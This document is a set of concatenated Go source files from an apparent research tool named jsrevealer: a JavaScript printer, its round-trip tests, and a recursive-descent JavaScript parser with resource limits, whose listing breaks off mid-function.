func Quote(s string) string { return quoteJS(s) }

// FormatNumber renders f exactly as the printer renders a numeric literal
// with no raw spelling — the canonical decimal form hex/octal/exponent
// spellings normalize to.
func FormatNumber(f float64) string { return formatNumber(f) }

// quoteJS renders s as a double-quoted JavaScript string literal.
func quoteJS(s string) string {
	var sb strings.Builder
	sb.WriteByte('"')
	for _, r := range s {
		switch r {
		case '"':
			sb.WriteString(`\"`)
		case '\\':
			sb.WriteString(`\\`)
		case '\n':
			sb.WriteString(`\n`)
		case '\r':
			sb.WriteString(`\r`)
		case '\t':
			sb.WriteString(`\t`)
		case '\b':
			sb.WriteString(`\b`)
		case '\f':
			sb.WriteString(`\f`)
		case '\v':
			sb.WriteString(`\v`)
		case 0:
			sb.WriteString(`\x00`)
		default:
			if r < 0x20 {
				sb.WriteString(fmt.Sprintf(`\x%02x`, r))
			} else {
				sb.WriteRune(r)
			}
		}
	}
	sb.WriteByte('"')
	return sb.String()
}

// formatNumber renders a float as a JavaScript numeric literal.
func formatNumber(f float64) string {
	if f == float64(int64(f)) && f >= -1e15 && f <= 1e15 {
		return strconv.FormatInt(int64(f), 10)
	}
	return strconv.FormatFloat(f, 'g', -1, 64)
}
