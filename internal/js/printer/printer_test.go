package printer

import (
	"strings"
	"testing"
	"testing/quick"

	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/js/parser"
)

// reparse asserts that printing a parsed program yields source that parses
// again and prints identically (a fixed point after one round).
func reparse(t *testing.T, src string) string {
	t.Helper()
	prog, err := parser.Parse(src)
	if err != nil {
		t.Fatalf("parse: %v\n%s", err, src)
	}
	out := Print(prog)
	prog2, err := parser.Parse(out)
	if err != nil {
		t.Fatalf("reparse: %v\n%s", err, out)
	}
	out2 := Print(prog2)
	if out != out2 {
		t.Fatalf("print not stable:\n--- first\n%s\n--- second\n%s", out, out2)
	}
	return out
}

func TestRoundTripStatements(t *testing.T) {
	cases := []string{
		"var a = 1;",
		"let x = 2, y;",
		"const c = \"s\";",
		"function f(a, b) { return a + b; }",
		"if (a) { b(); } else if (c) { d(); } else { e(); }",
		"for (var i = 0; i < 10; i++) { go(i); }",
		"for (;;) { break; }",
		"for (var k in o) { use(k); }",
		"while (x > 0) { x--; }",
		"do { tick(); } while (more());",
		"switch (v) { case 1: a(); break; default: b(); }",
		"try { risky(); } catch (e) { log(e); } finally { done(); }",
		"throw new Error(\"boom\");",
		"label: while (1) { continue label; }",
		"with (o) { p; }",
		"debugger;",
		";",
		"x = a ? b : c;",
		"y = (1, 2, 3);",
		"delete o.k;",
		"void 0;",
		"z = typeof q === \"string\";",
		"a = b instanceof Date;",
		"n = -x + +y - ~z;",
		"m = a << 2 >>> 1 & 3 | 4 ^ 5;",
		"s = \"quote\\\"s\" + 'single';",
		"r = /ab+c/gi;",
		"var o2 = { a: 1, \"b\": [2, 3], c: { d: 4 } };",
		"var arr = [1, , 3];",
		"var f2 = function named() { return 1; };",
		"(function() { init(); })();",
		"a.b[c].d(1)(2);",
		"var g = { get v() { return 1; }, set v(x) { this._v = x; } };",
	}
	for _, src := range cases {
		reparse(t, src)
	}
}

func TestPrecedencePreserved(t *testing.T) {
	cases := map[string]string{
		"x = (1 + 2) * 3;":   "*",
		"y = 1 + 2 * 3;":     "+",
		"z = -(a + b);":      "-",
		"w = (a || b) && c;": "&&",
		"v = a - (b - c);":   "-",
		"u = (a ? b : c).d;": ".",
		"t = (a, b) + 1;":    "+",
		"s = new (f())(1);":  "new",
		"q = !(a in b);":     "!",
		"p = (a = b) + 1;":   "+",
	}
	for src := range cases {
		out := reparse(t, src)
		// Structural equality: parse both and compare node counts along with
		// printed stability (checked in reparse).
		p1, _ := parser.Parse(src)
		p2, _ := parser.Parse(out)
		if ast.Count(p1) != ast.Count(p2) {
			t.Errorf("%q -> %q changed structure (%d vs %d nodes)",
				src, out, ast.Count(p1), ast.Count(p2))
		}
	}
}

func TestNumberMemberNeedsParens(t *testing.T) {
	prog := &ast.Program{Body: []ast.Statement{
		&ast.ExpressionStatement{Expression: &ast.CallExpression{
			Callee: &ast.MemberExpression{
				Object:   &ast.Literal{Kind: ast.LiteralNumber, NumVal: 1},
				Property: &ast.Identifier{Name: "toString"},
			},
		}},
	}}
	out := Print(prog)
	if !strings.Contains(out, "(1).toString") {
		t.Errorf("number member access printed as %q", out)
	}
	if _, err := parser.Parse(out); err != nil {
		t.Fatalf("reparse: %v", err)
	}
}

func TestObjectLiteralStatementParenthesized(t *testing.T) {
	prog := &ast.Program{Body: []ast.Statement{
		&ast.ExpressionStatement{Expression: &ast.ObjectExpression{
			Properties: []*ast.Property{{
				Kind:  ast.PropertyInit,
				Key:   &ast.Identifier{Name: "a"},
				Value: &ast.Literal{Kind: ast.LiteralNumber, NumVal: 1},
			}},
		}},
	}}
	out := Print(prog)
	if _, err := parser.Parse(out); err != nil {
		t.Fatalf("object-literal statement %q does not reparse: %v", out, err)
	}
}

func TestStringQuoting(t *testing.T) {
	cases := []string{
		"plain", "with\"quote", "with\\backslash", "tab\there",
		"line\nbreak", "null\x00byte", "unicode ☃",
	}
	for _, s := range cases {
		prog := &ast.Program{Body: []ast.Statement{
			&ast.ExpressionStatement{Expression: &ast.AssignmentExpression{
				Operator: "=",
				Left:     &ast.Identifier{Name: "x"},
				Right:    &ast.Literal{Kind: ast.LiteralString, StrVal: s},
			}},
		}}
		out := Print(prog)
		prog2, err := parser.Parse(out)
		if err != nil {
			t.Fatalf("quoted %q -> %q: %v", s, out, err)
		}
		lit := prog2.Body[0].(*ast.ExpressionStatement).Expression.(*ast.AssignmentExpression).Right.(*ast.Literal)
		if lit.StrVal != s {
			t.Errorf("round trip of %q gave %q", s, lit.StrVal)
		}
	}
}

// TestQuickStringRoundTrip property-tests string literal quoting over
// arbitrary strings.
func TestQuickStringRoundTrip(t *testing.T) {
	f := func(s string) bool {
		if !utf8Valid(s) {
			return true
		}
		prog := &ast.Program{Body: []ast.Statement{
			&ast.ExpressionStatement{Expression: &ast.AssignmentExpression{
				Operator: "=",
				Left:     &ast.Identifier{Name: "x"},
				Right:    &ast.Literal{Kind: ast.LiteralString, StrVal: s},
			}},
		}}
		out := Print(prog)
		prog2, err := parser.Parse(out)
		if err != nil {
			return false
		}
		lit := prog2.Body[0].(*ast.ExpressionStatement).Expression.(*ast.AssignmentExpression).Right.(*ast.Literal)
		return lit.StrVal == s
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func utf8Valid(s string) bool {
	for _, r := range s {
		if r == 0xFFFD {
			return false
		}
		// Carriage returns decode as themselves but JS strings cannot
		// contain raw \r after our \r escape... they can; skip only invalid.
	}
	return true
}

func TestPrintExpressionAndStatement(t *testing.T) {
	expr := &ast.BinaryExpression{
		Operator: "+",
		Left:     &ast.Literal{Kind: ast.LiteralNumber, NumVal: 1},
		Right:    &ast.Literal{Kind: ast.LiteralNumber, NumVal: 2},
	}
	if got := PrintExpression(expr); got != "1 + 2" {
		t.Errorf("PrintExpression = %q", got)
	}
	stmt := &ast.ReturnStatement{}
	if got := PrintStatement(stmt); got != "return;" {
		t.Errorf("PrintStatement = %q", got)
	}
}

func TestNestedUnaryMinusSpacing(t *testing.T) {
	prog := &ast.Program{Body: []ast.Statement{
		&ast.ExpressionStatement{Expression: &ast.AssignmentExpression{
			Operator: "=",
			Left:     &ast.Identifier{Name: "x"},
			Right: &ast.UnaryExpression{Operator: "-", Argument: &ast.UnaryExpression{
				Operator: "-", Argument: &ast.Identifier{Name: "y"},
			}},
		}},
	}}
	out := Print(prog)
	if strings.Contains(out, "--") {
		t.Errorf("nested minus printed as decrement: %q", out)
	}
	if _, err := parser.Parse(out); err != nil {
		t.Fatalf("reparse: %v", err)
	}
}
