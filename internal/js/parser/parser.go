// Package parser builds an ESTree-shaped AST from JavaScript source.
//
// It is a hand-written recursive-descent parser standing in for Esprima,
// which the JSRevealer paper uses. The grammar covered is ES5 plus
// let/const and simple template literals — everything the corpus generators,
// obfuscators, and realistic web scripts in the evaluation emit.
package parser

import (
	"errors"
	"fmt"
	"strconv"
	"strings"
	"time"

	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/js/lexer"
)

// DefaultMaxDepth is the recursion-depth budget applied when Limits.MaxDepth
// is unset. Pathological inputs (e.g. tens of thousands of nested
// parentheses) otherwise overflow the goroutine stack; ~2000 frames is far
// beyond anything real code or the evaluation obfuscators produce.
const DefaultMaxDepth = 2000

// ErrTooDeep is wrapped by parse failures caused by exceeding the recursion
// depth limit; callers distinguish it from ordinary syntax errors with
// errors.Is.
var ErrTooDeep = errors.New("parser: recursion depth limit exceeded")

// ErrCancelled is wrapped by parse failures caused by Limits.Cancel firing,
// letting callers enforce deadlines on hostile inputs cooperatively.
var ErrCancelled = errors.New("parser: parse cancelled")

// Limits bounds the resources a single parse may consume. The zero value
// applies DefaultMaxDepth with no token cap and no cancellation.
type Limits struct {
	// MaxDepth caps recursive-descent nesting; <= 0 means DefaultMaxDepth.
	MaxDepth int
	// MaxTokens caps the token count (see lexer.TokenizeLimit); <= 0
	// disables the cap.
	MaxTokens int
	// Cancel, when non-nil, aborts the parse with ErrCancelled shortly
	// after the channel is closed. Pass ctx.Done() to honour deadlines.
	Cancel <-chan struct{}
}

// ParseError describes a parse failure with its source position.
type ParseError struct {
	Msg  string
	Line int
	Col  int
}

// Error implements error.
func (e *ParseError) Error() string {
	return fmt.Sprintf("%d:%d: %s", e.Line, e.Col, e.Msg)
}

// Parse parses src into a Program with default limits.
func Parse(src string) (*ast.Program, error) {
	return ParseWithLimits(src, Limits{})
}

// ParseWithLimits parses src into a Program under the given resource limits.
func ParseWithLimits(src string, lim Limits) (*ast.Program, error) {
	prog, _, err := ParseTimed(src, lim)
	return prog, err
}

// Timing breaks one parse into its two phases, the substrate for the
// observability layer's per-stage attribution (lexing and parsing would
// otherwise be indistinguishable from the outside).
type Timing struct {
	// Lex is the tokenization time, including a failed tokenization.
	Lex time.Duration
	// Parse is the recursive-descent time over the token stream.
	Parse time.Duration
}

// ParseTimed is ParseWithLimits with a per-phase timing breakdown. The
// timing is valid even when err is non-nil (the failing phase's duration is
// still reported).
func ParseTimed(src string, lim Limits) (*ast.Program, Timing, error) {
	if lim.MaxDepth <= 0 {
		lim.MaxDepth = DefaultMaxDepth
	}
	var tm Timing
	t0 := time.Now()
	toks, err := lexer.TokenizeLimit(src, lim.MaxTokens)
	tm.Lex = time.Since(t0)
	if err != nil {
		return nil, tm, err
	}
	t0 = time.Now()
	p := &parser{toks: toks, maxDepth: lim.MaxDepth, cancel: lim.Cancel}
	prog := &ast.Program{}
	for !p.atEOF() {
		stmt, err := p.parseStatement()
		if err != nil {
			tm.Parse = time.Since(t0)
			return nil, tm, err
		}
		prog.Body = append(prog.Body, stmt)
	}
	tm.Parse = time.Since(t0)
	return prog, tm, nil
}

type parser struct {
	toks []lexer.Token
	pos  int

	// depth tracks recursive-descent nesting against maxDepth.
	depth    int
	maxDepth int
	// steps counts enter calls so cancellation is polled cheaply.
	steps  int
	cancel <-chan struct{}
}

// enter charges one recursion frame; it fails once the depth budget is
// exhausted or the parse has been cancelled. Every recursive production
// (statements, assignments, unary chains, new chains) calls it, so nesting
// of any shape is bounded.
func (p *parser) enter() error {
	p.depth++
	if p.depth > p.maxDepth {
		return fmt.Errorf("%w (limit %d)", ErrTooDeep, p.maxDepth)
	}
	p.steps++
	if p.cancel != nil && p.steps&255 == 0 {
		select {
		case <-p.cancel:
			return ErrCancelled
		default:
		}
	}
	return nil
}

func (p *parser) leave() { p.depth-- }

func (p *parser) cur() lexer.Token { return p.toks[p.pos] }
func (p *parser) atEOF() bool      { return p.cur().Kind == lexer.EOF }
func (p *parser) advance() lexer.Token {
	t := p.toks[p.pos]
	if p.pos < len(p.toks)-1 {
		p.pos++
	}
	return t
}

func (p *parser) peek() lexer.Token {
	if p.pos+1 < len(p.toks) {
		return p.toks[p.pos+1]
	}
	return p.toks[len(p.toks)-1]
}

func (p *parser) errorf(format string, args ...any) error {
	t := p.cur()
	return &ParseError{Msg: fmt.Sprintf(format, args...), Line: t.Line, Col: t.Col}
}

// isPunct reports whether the current token is the given punctuator.
func (p *parser) isPunct(lit string) bool {
	t := p.cur()
	return t.Kind == lexer.Punct && t.Literal == lit
}

// isKeyword reports whether the current token is the given keyword.
func (p *parser) isKeyword(lit string) bool {
	t := p.cur()
	return t.Kind == lexer.Keyword && t.Literal == lit
}

// expectPunct consumes the given punctuator or fails.
func (p *parser) expectPunct(lit string) error {
	if !p.isPunct(lit) {
		return p.errorf("expected %q, found %s", lit, p.cur())
	}
	p.advance()
	return nil
}

// expectKeyword consumes the given keyword or fails.
func (p *parser) expectKeyword(lit string) error {
	if !p.isKeyword(lit) {
		return p.errorf("expected keyword %q, found %s", lit, p.cur())
	}
	p.advance()
	return nil
}

// consumeSemicolon applies automatic semicolon insertion: an explicit ';' is
// eaten; otherwise a '}' or EOF or a preceding line break satisfies ASI.
func (p *parser) consumeSemicolon() error {
	if p.isPunct(";") {
		p.advance()
		return nil
	}
	if p.isPunct("}") || p.atEOF() || p.cur().NewlineBefore {
		return nil
	}
	return p.errorf("expected semicolon, found %s", p.cur())
}

// ---------------------------------------------------------------------------
// Statements
// ---------------------------------------------------------------------------

func (p *parser) parseStatement() (ast.Statement, error) {
	if err := p.enter(); err != nil {
		return nil, err
	}
	defer p.leave()
	t := p.cur()
	switch {
	case t.Kind == lexer.Punct && t.Literal == "{":
		return p.parseBlock()
	case t.Kind == lexer.Punct && t.Literal == ";":
		p.advance()
		return &ast.EmptyStatement{}, nil
	case t.Kind == lexer.Keyword:
		switch t.Literal {
		case "var", "let", "const":
			return p.parseVariableDeclaration()
		case "function":
			return p.parseFunctionDeclaration()
		case "if":
			return p.parseIf()
		case "for":
			return p.parseFor()
		case "while":
			return p.parseWhile()
		case "do":
			return p.parseDoWhile()
		case "return":
			return p.parseReturn()
		case "break":
			return p.parseBreakContinue(true)
		case "continue":
			return p.parseBreakContinue(false)
		case "switch":
			return p.parseSwitch()
		case "throw":
			return p.parseThrow()
		case "try":
			return p.parseTry()
		case "with":
			return p.parseWith()
		case "debugger":
			p.advance()
			if err := p.consumeSemicolon(); err != nil {
				return nil, err
			}
			return &ast.DebuggerStatement{}, nil
		}
	case t.Kind == lexer.Ident && p.peek().Kind == lexer.Punct && p.peek().Literal == ":":
		// Labeled statement.
		label := &ast.Identifier{Name: p.advance().Literal}
		p.advance() // ':'
		body, err := p.parseStatement()
		if err != nil {
			return nil, err
		}
		return &ast.LabeledStatement{Label: label, Body: body}, nil
	}
	// Expression statement.
	expr, err := p.parseExpression()
	if err != nil {
		return nil, err
	}
	if err := p.consumeSemicolon(); err != nil {
		return nil, err
	}
	return &ast.ExpressionStatement{Expression: expr}, nil
}

func (p *parser) parseBlock() (*ast.BlockStatement, error) {
	if err := p.expectPunct("{"); err != nil {
		return nil, err
	}
	blk := &ast.BlockStatement{}
	for !p.isPunct("}") {
		if p.atEOF() {
			return nil, p.errorf("unterminated block")
		}
		stmt, err := p.parseStatement()
		if err != nil {
			return nil, err
		}
		blk.Body = append(blk.Body, stmt)
	}
	p.advance() // '}'
	return blk, nil
}

func (p *parser) parseVariableDeclaration() (*ast.VariableDeclaration, error) {
	decl, err := p.parseVariableDeclarationNoSemi()
	if err != nil {
		return nil, err
	}
	if err := p.consumeSemicolon(); err != nil {
		return nil, err
	}
	return decl, nil
}

func (p *parser) parseVariableDeclarationNoSemi() (*ast.VariableDeclaration, error) {
	kind := p.advance().Literal // var/let/const
	decl := &ast.VariableDeclaration{Kind: kind}
	for {
		if p.cur().Kind != lexer.Ident {
			return nil, p.errorf("expected identifier in %s declaration, found %s", kind, p.cur())
		}
		id := &ast.Identifier{Name: p.advance().Literal}
		d := &ast.VariableDeclarator{ID: id}
		if p.isPunct("=") {
			p.advance()
			init, err := p.parseAssignment()
			if err != nil {
				return nil, err
			}
			d.Init = init
		}
		decl.Declarations = append(decl.Declarations, d)
		if !p.isPunct(",") {
			break
		}
		p.advance()
	}
	return decl, nil
}

func (p *parser) parseFunctionDeclaration() (*ast.FunctionDeclaration, error) {
	p.advance() // function
	if p.cur().Kind != lexer.Ident {
		return nil, p.errorf("expected function name, found %s", p.cur())
	}
	id := &ast.Identifier{Name: p.advance().Literal}
	params, err := p.parseParams()
	if err != nil {
		return nil, err
	}
	body, err := p.parseBlock()
	if err != nil {
		return nil, err
	}
	return &ast.FunctionDeclaration{ID: id, Params: params, Body: body}, nil
}

func (p *parser) parseParams() ([]*ast.Identifier, error) {
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	var params []*ast.Identifier
	for !p.isPunct(")") {
		if p.cur().Kind != lexer.Ident {
			return nil, p.errorf("expected parameter name, found %s", p.cur())
		}
		params = append(params, &ast.Identifier{Name: p.advance().Literal})
		if p.isPunct(",") {
			p.advance()
		}
	}
	p.advance() // ')'
	return params, nil
}

func (p *parser) parseIf() (*ast.IfStatement, error) {
	p.advance() // if
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	test, err := p.parseExpression()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	cons, err := p.parseStatement()
	if err != nil {
		return nil, err
	}
	stmt := &ast.IfStatement{Test: test, Consequent: cons}
	if p.isKeyword("else") {
		p.advance()
		alt, err := p.parseStatement()
		if err != nil {
			return nil, err
		}
		stmt.Alternate = alt
	}
	return stmt, nil
}

func (p *parser) parseFor() (ast.Statement, error) {
	p.advance() // for
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}

	var initNode ast.Node
	switch {
	case p.isPunct(";"):
		// no init
	case p.isKeyword("var") || p.isKeyword("let") || p.isKeyword("const"):
		decl, err := p.parseVariableDeclarationNoSemi()
		if err != nil {
			return nil, err
		}
		if p.isKeyword("in") {
			p.advance()
			return p.finishForIn(decl)
		}
		initNode = decl
	default:
		expr, err := p.parseExpressionNoIn()
		if err != nil {
			return nil, err
		}
		if p.isKeyword("in") {
			p.advance()
			return p.finishForIn(expr)
		}
		initNode = expr
	}

	if err := p.expectPunct(";"); err != nil {
		return nil, err
	}
	stmt := &ast.ForStatement{Init: initNode}
	if !p.isPunct(";") {
		test, err := p.parseExpression()
		if err != nil {
			return nil, err
		}
		stmt.Test = test
	}
	if err := p.expectPunct(";"); err != nil {
		return nil, err
	}
	if !p.isPunct(")") {
		update, err := p.parseExpression()
		if err != nil {
			return nil, err
		}
		stmt.Update = update
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	body, err := p.parseStatement()
	if err != nil {
		return nil, err
	}
	stmt.Body = body
	return stmt, nil
}

func (p *parser) finishForIn(left ast.Node) (ast.Statement, error) {
	right, err := p.parseExpression()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	body, err := p.parseStatement()
	if err != nil {
		return nil, err
	}
	return &ast.ForInStatement{Left: left, Right: right, Body: body}, nil
}

func (p *parser) parseWhile() (*ast.WhileStatement, error) {
	p.advance() // while
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	test, err := p.parseExpression()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	body, err := p.parseStatement()
	if err != nil {
		return nil, err
	}
	return &ast.WhileStatement{Test: test, Body: body}, nil
}

func (p *parser) parseDoWhile() (*ast.DoWhileStatement, error) {
	p.advance() // do
	body, err := p.parseStatement()
	if err != nil {
		return nil, err
	}
	if err := p.expectKeyword("while"); err != nil {
		return nil, err
	}
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	test, err := p.parseExpression()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	if p.isPunct(";") {
		p.advance()
	}
	return &ast.DoWhileStatement{Body: body, Test: test}, nil
}

func (p *parser) parseReturn() (*ast.ReturnStatement, error) {
	p.advance() // return
	stmt := &ast.ReturnStatement{}
	// ASI: `return` followed by a newline returns undefined.
	if !p.isPunct(";") && !p.isPunct("}") && !p.atEOF() && !p.cur().NewlineBefore {
		arg, err := p.parseExpression()
		if err != nil {
			return nil, err
		}
		stmt.Argument = arg
	}
	if err := p.consumeSemicolon(); err != nil {
		return nil, err
	}
	return stmt, nil
}

func (p *parser) parseBreakContinue(isBreak bool) (ast.Statement, error) {
	p.advance() // break/continue
	var label *ast.Identifier
	if p.cur().Kind == lexer.Ident && !p.cur().NewlineBefore {
		label = &ast.Identifier{Name: p.advance().Literal}
	}
	if err := p.consumeSemicolon(); err != nil {
		return nil, err
	}
	if isBreak {
		return &ast.BreakStatement{Label: label}, nil
	}
	return &ast.ContinueStatement{Label: label}, nil
}

func (p *parser) parseSwitch() (*ast.SwitchStatement, error) {
	p.advance() // switch
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	disc, err := p.parseExpression()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	if err := p.expectPunct("{"); err != nil {
		return nil, err
	}
	stmt := &ast.SwitchStatement{Discriminant: disc}
	for !p.isPunct("}") {
		if p.atEOF() {
			return nil, p.errorf("unterminated switch")
		}
		sc := &ast.SwitchCase{}
		if p.isKeyword("case") {
			p.advance()
			test, err := p.parseExpression()
			if err != nil {
				return nil, err
			}
			sc.Test = test
		} else if p.isKeyword("default") {
			p.advance()
		} else {
			return nil, p.errorf("expected case or default, found %s", p.cur())
		}
		if err := p.expectPunct(":"); err != nil {
			return nil, err
		}
		for !p.isKeyword("case") && !p.isKeyword("default") && !p.isPunct("}") {
			if p.atEOF() {
				return nil, p.errorf("unterminated switch case")
			}
			s, err := p.parseStatement()
			if err != nil {
				return nil, err
			}
			sc.Consequent = append(sc.Consequent, s)
		}
		stmt.Cases = append(stmt.Cases, sc)
	}
	p.advance() // '}'
	return stmt, nil
}

func (p *parser) parseThrow() (*ast.ThrowStatement, error) {
	p.advance() // throw
	arg, err := p.parseExpression()
	if err != nil {
		return nil, err
	}
	if err := p.consumeSemicolon(); err != nil {
		return nil, err
	}
	return &ast.ThrowStatement{Argument: arg}, nil
}

func (p *parser) parseTry() (*ast.TryStatement, error) {
	p.advance() // try
	block, err := p.parseBlock()
	if err != nil {
		return nil, err
	}
	stmt := &ast.TryStatement{Block: block}
	if p.isKeyword("catch") {
		p.advance()
		if err := p.expectPunct("("); err != nil {
			return nil, err
		}
		if p.cur().Kind != lexer.Ident {
			return nil, p.errorf("expected catch parameter, found %s", p.cur())
		}
		param := &ast.Identifier{Name: p.advance().Literal}
		if err := p.expectPunct(")"); err != nil {
			return nil, err
		}
		body, err := p.parseBlock()
		if err != nil {
			return nil, err
		}
		stmt.Handler = &ast.CatchClause{Param: param, Body: body}
	}
	if p.isKeyword("finally") {
		p.advance()
		fin, err := p.parseBlock()
		if err != nil {
			return nil, err
		}
		stmt.Finalizer = fin
	}
	if stmt.Handler == nil && stmt.Finalizer == nil {
		return nil, p.errorf("try requires catch or finally")
	}
	return stmt, nil
}

func (p *parser) parseWith() (*ast.WithStatement, error) {
	p.advance() // with
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	obj, err := p.parseExpression()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	body, err := p.parseStatement()
	if err != nil {
		return nil, err
	}
	return &ast.WithStatement{Object: obj, Body: body}, nil
}

// ---------------------------------------------------------------------------
// Expressions
// ---------------------------------------------------------------------------

// parseExpression parses a full (possibly comma-separated) expression.
func (p *parser) parseExpression() (ast.Expression, error) {
	return p.parseExpressionImpl(true)
}

// parseExpressionNoIn parses an expression treating `in` as a terminator,
// for use in for-statement heads.
func (p *parser) parseExpressionNoIn() (ast.Expression, error) {
	return p.parseExpressionImpl(false)
}

func (p *parser) parseExpressionImpl(allowIn bool) (ast.Expression, error) {
	first, err := p.parseAssignmentIn(allowIn)
	if err != nil {
		return nil, err
	}
	if !p.isPunct(",") {
		return first, nil
	}
	seq := &ast.SequenceExpression{Expressions: []ast.Expression{first}}
	for p.isPunct(",") {
		p.advance()
		next, err := p.parseAssignmentIn(allowIn)
		if err != nil {
			return nil, err
		}
		seq.Expressions = append(seq.Expressions, next)
	}
	return seq, nil
}

var assignOps = map[string]bool{
	"=": true, "+=": true, "-=": true, "*=": true, "/=": true, "%=": true,
	"<<=": true, ">>=": true, ">>>=": true, "&=": true, "|=": true, "^=": true,
}

func (p *parser) parseAssignment() (ast.Expression, error) {
	return p.parseAssignmentIn(true)
}

func (p *parser) parseAssignmentIn(allowIn bool) (ast.Expression, error) {
	if err := p.enter(); err != nil {
		return nil, err
	}
	defer p.leave()
	left, err := p.parseConditional(allowIn)
	if err != nil {
		return nil, err
	}
	t := p.cur()
	if t.Kind == lexer.Punct && assignOps[t.Literal] {
		switch left.(type) {
		case *ast.Identifier, *ast.MemberExpression:
			// valid assignment targets
		default:
			return nil, p.errorf("invalid assignment target %s", left.Type())
		}
		op := p.advance().Literal
		right, err := p.parseAssignmentIn(allowIn)
		if err != nil {
			return nil, err
		}
		return &ast.AssignmentExpression{Operator: op, Left: left, Right: right}, nil
	}
	return left, nil
}

func (p *parser) parseConditional(allowIn bool) (ast.Expression, error) {
	test, err := p.parseBinary(0, allowIn)
	if err != nil {
		return nil, err
	}
	if !p.isPunct("?") {
		return test, nil
	}
	p.advance()
	cons, err := p.parseAssignmentIn(true)
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(":"); err != nil {
		return nil, err
	}
	alt, err := p.parseAssignmentIn(allowIn)
	if err != nil {
		return nil, err
	}
	return &ast.ConditionalExpression{Test: test, Consequent: cons, Alternate: alt}, nil
}

// binaryPrec maps binary operators to their precedence; higher binds tighter.
var binaryPrec = map[string]int{
	"||": 1,
	"&&": 2,
	"|":  3,
	"^":  4,
	"&":  5,
	"==": 6, "!=": 6, "===": 6, "!==": 6,
	"<": 7, ">": 7, "<=": 7, ">=": 7, "instanceof": 7, "in": 7,
	"<<": 8, ">>": 8, ">>>": 8,
	"+": 9, "-": 9,
	"*": 10, "/": 10, "%": 10,
}

func (p *parser) binaryOp(allowIn bool) (string, int, bool) {
	t := p.cur()
	var op string
	switch t.Kind {
	case lexer.Punct:
		op = t.Literal
	case lexer.Keyword:
		if t.Literal == "instanceof" || (t.Literal == "in" && allowIn) {
			op = t.Literal
		}
	}
	prec, ok := binaryPrec[op]
	return op, prec, ok && op != ""
}

func (p *parser) parseBinary(minPrec int, allowIn bool) (ast.Expression, error) {
	left, err := p.parseUnary()
	if err != nil {
		return nil, err
	}
	for {
		op, prec, ok := p.binaryOp(allowIn)
		if !ok || prec < minPrec {
			return left, nil
		}
		p.advance()
		right, err := p.parseBinary(prec+1, allowIn)
		if err != nil {
			return nil, err
		}
		if op == "&&" || op == "||" {
			left = &ast.LogicalExpression{Operator: op, Left: left, Right: right}
		} else {
			left = &ast.BinaryExpression{Operator: op, Left: left, Right: right}
		}
	}
}

var unaryOps = map[string]bool{
	"+": true, "-": true, "!": true, "~": true,
	"typeof": true, "void": true, "delete": true,
}

func (p *parser) parseUnary() (ast.Expression, error) {
	if err := p.enter(); err != nil {
		return nil, err
	}
	defer p.leave()
	t := p.cur()
	if (t.Kind == lexer.Punct || t.Kind == lexer.Keyword) && unaryOps[t.Literal] {
		op := p.advance().Literal
		arg, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		return &ast.UnaryExpression{Operator: op, Argument: arg}, nil
	}
	if t.Kind == lexer.Punct && (t.Literal == "++" || t.Literal == "--") {
		op := p.advance().Literal
		arg, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		return &ast.UpdateExpression{Operator: op, Argument: arg, Prefix: true}, nil
	}
	return p.parsePostfix()
}

func (p *parser) parsePostfix() (ast.Expression, error) {
	expr, err := p.parseCallMember()
	if err != nil {
		return nil, err
	}
	t := p.cur()
	if t.Kind == lexer.Punct && (t.Literal == "++" || t.Literal == "--") && !t.NewlineBefore {
		op := p.advance().Literal
		return &ast.UpdateExpression{Operator: op, Argument: expr, Prefix: false}, nil
	}
	return expr, nil
}

// parseCallMember parses new expressions, member access chains, and calls.
func (p *parser) parseCallMember() (ast.Expression, error) {
	var expr ast.Expression
	var err error
	if p.isKeyword("new") {
		expr, err = p.parseNew()
	} else {
		expr, err = p.parsePrimary()
	}
	if err != nil {
		return nil, err
	}
	return p.parseCallMemberTail(expr)
}

func (p *parser) parseCallMemberTail(expr ast.Expression) (ast.Expression, error) {
	for {
		switch {
		case p.isPunct("."):
			p.advance()
			t := p.cur()
			if t.Kind != lexer.Ident && t.Kind != lexer.Keyword {
				return nil, p.errorf("expected property name, found %s", t)
			}
			p.advance()
			expr = &ast.MemberExpression{
				Object:   expr,
				Property: &ast.Identifier{Name: t.Literal},
			}
		case p.isPunct("["):
			p.advance()
			prop, err := p.parseExpression()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct("]"); err != nil {
				return nil, err
			}
			expr = &ast.MemberExpression{Object: expr, Property: prop, Computed: true}
		case p.isPunct("("):
			args, err := p.parseArguments()
			if err != nil {
				return nil, err
			}
			expr = &ast.CallExpression{Callee: expr, Arguments: args}
		default:
			return expr, nil
		}
	}
}

func (p *parser) parseNew() (ast.Expression, error) {
	if err := p.enter(); err != nil {
		return nil, err
	}
	defer p.leave()
	p.advance() // new
	var callee ast.Expression
	var err error
	if p.isKeyword("new") {
		callee, err = p.parseNew()
	} else {
		callee, err = p.parsePrimary()
	}
	if err != nil {
		return nil, err
	}
	// Member accesses bind tighter than the new-call arguments.
	for p.isPunct(".") || p.isPunct("[") {
		if p.isPunct(".") {
			p.advance()
			t := p.cur()
			if t.Kind != lexer.Ident && t.Kind != lexer.Keyword {
				return nil, p.errorf("expected property name, found %s", t)
			}
